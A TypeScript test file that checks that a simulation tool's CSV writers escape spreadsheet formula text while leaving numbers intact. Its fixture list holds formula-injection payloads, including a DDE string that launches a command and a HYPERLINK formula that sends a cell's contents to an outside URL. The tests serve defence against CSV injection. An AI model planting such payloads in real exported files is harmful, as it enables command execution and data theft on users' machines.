/**
 * Item 7 of the reliability guarantees (docs/RELIABILITY.md): a text cell of any CSV goodhart
 * writes that a spreadsheet would read as a formula is escaped; numbers are written as they are.
 */
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runScenario, loadScenario } from '../../src/index.ts';
import { metricsCsv } from '../../src/cli/commands/run.ts';
import { escapeCell, toCsv } from '../../src/cli/csv.ts';
import { runsCsv, sensitivityCsv } from '../../src/cli/sweep-files.ts';

/** RFC 4180 records as objects keyed by the header: enough to read back what toCsv writes. */
function parse(csv: string, _options: { columns: true }): Record<string, string>[] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let k = 0; k < csv.length; k++) {
    const c = csv[k];
    if (quoted) {
      if (c === '"' && csv[k + 1] === '"') (cell += '"'), k++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') record.push(cell), (cell = '');
    else if (c === '\n') record.push(cell), records.push(record), (record = []), (cell = '');
    else cell += c;
  }
  const [header, ...rows] = records;
  return rows.map((row) => Object.fromEntries(header.map((name, k) => [name, row[k]])));
}

const FORMULAS = ['=1+1', '+1', '-1', '@SUM(A1:A2)', '\tx', '\rx', "=HYPERLINK(\"http://example.com?\"&A1, \"click\")", "=cmd|' /C calc'!A0", '-2+3+cmd|x'];

describe('escapeCell', () => {
  it.each(FORMULAS)('puts an apostrophe before %j', (text) => {
    expect(escapeCell(text)).toBe(`'${text}`);
  });

  it.each(['', 'meshclaw', 'a=b', '1-2', 'trust@final', ' =x', "'=x", 'é=1'])('leaves %j as it is', (text) => {
    expect(escapeCell(text)).toBe(text);
  });
});

describe('toCsv', () => {
  it('escapes formula text, writes numbers and flags as they are, and stays valid CSV', () => {
    const rows = FORMULAS.map((text, k) => ({ text, number: -k - 0.5, flag: k % 2 === 0 }));
    const csv = toCsv(rows, ['text', 'number', 'flag']);
    const cells = parse(csv, { columns: true }) as Record<string, string>[];
    expect(cells.map((c) => c.text)).toEqual(FORMULAS.map((text) => `'${text}`));
    expect(cells.map((c) => c.number)).toEqual(FORMULAS.map((_, k) => String(-k - 0.5)));
    expect(cells.map((c) => c.flag)).toEqual(FORMULAS.map((_, k) => String(k % 2 === 0)));
    // No line of the file starts a cell with a formula character.
    for (const line of csv.split('\n').slice(1, -1)) expect(line).toMatch(/^("?')/);
  });

  it('quotes a cell holding a comma, a quote or a line break, doubling its quotes, and writes missing values as empty cells', () => {
    const rows = [{ text: 'a,b', other: 'say "hi"' }, { text: 'two\nlines', other: undefined }, { text: 'back\rslash', other: null }];
    const csv = toCsv(rows, ['text', 'other']);
    expect(csv).toBe('text,other\n"a,b","say ""hi"""\n"two\nlines",\n"back\rslash",\n');
    expect(parse(csv, { columns: true })).toEqual([
      { text: 'a,b', other: 'say "hi"' },
      { text: 'two\nlines', other: '' },
      { text: 'back\rslash', other: '' },
    ]);
  });

  it('writes the header line alone, ending in a newline, when there are no rows', () => {
    expect(toCsv([], ['point', 'seed'])).toBe('point,seed\n');
  });

  it('escapes a header that would be a formula', () => {
    expect(toCsv([{ '=x': 1 }], ['=x']).split('\n')[0]).toBe("'=x");
  });
});

describe('the CSV files of run and sweep', () => {
  it('runs.csv escapes a text parameter value but keeps negative numbers as numbers', () => {
    const table = {
      columns: ['point', 'replication', 'seed', 'policies.quota.target', 'behaviour.effort.manual', 'realOutput'],
      rows: [
        { point: 0, replication: 0, seed: 1, 'policies.quota.target': '-t + 5e7', 'behaviour.effort.manual': -0.25, realOutput: 812.5 },
        { point: 1, replication: 0, seed: 1, 'policies.quota.target': '=2*t', 'behaviour.effort.manual': -1, realOutput: -3 },
      ],
      complete: true,
    };
    const cells = parse(runsCsv(table), { columns: true }) as Record<string, string>[];
    expect(cells.map((c) => c['policies.quota.target'])).toEqual(["'-t + 5e7", "'=2*t"]);
    expect(cells.map((c) => c['behaviour.effort.manual'])).toEqual(['-0.25', '-1']);
    expect(cells.map((c) => c.realOutput)).toEqual(['812.5', '-3']);
  });

  it('sensitivity.csv escapes an output or parameter name that would be a formula', () => {
    const csv = sensitivityCsv([{ output: '=bad', method: 'morris', morris: [{ parameter: '@p', mu: -1, muStar: 1, sigma: 0.5 }] }] as never);
    expect(csv.split('\n')[1]).toBe("'=bad,'@p,morris,-1,1,0.5");
  });

  it('metrics.csv writes negative values (effort, validity) as numbers', () => {
    const scenario = loadScenario({ name: 'negative', agents: 50, weeks: 3 });
    const csv = metricsCsv(runScenario(scenario, { seeds: 1 }));
    const cells = parse(csv, { columns: true }) as Record<string, string>[];
    expect(cells).toHaveLength(3);
    for (const row of cells) for (const [column, value] of Object.entries(row)) if (column !== 'scenario') expect(Number.isFinite(Number(value)), `${column}=${value}`).toBe(true);
  });

  it('every CSV writer in src goes through toCsv', () => {
    const files = (dir: string): string[] => readdirSync(dir).flatMap((name) => (statSync(join(dir, name)).isDirectory() ? files(join(dir, name)) : [join(dir, name)]));
    const src = new URL('../../src/', import.meta.url).pathname;
    const writesCsv = /from 'csv-stringify|\bcsvFormat\w*\b[^;]*from 'd3-dsv'/;
    const direct = files(src).filter((file) => /\.ts$/.test(file) && !file.endsWith('cli/csv.ts') && writesCsv.test(readFileSync(file, 'utf8')));
    expect(direct.map((file) => file.slice(src.length))).toEqual([]);
  });
});
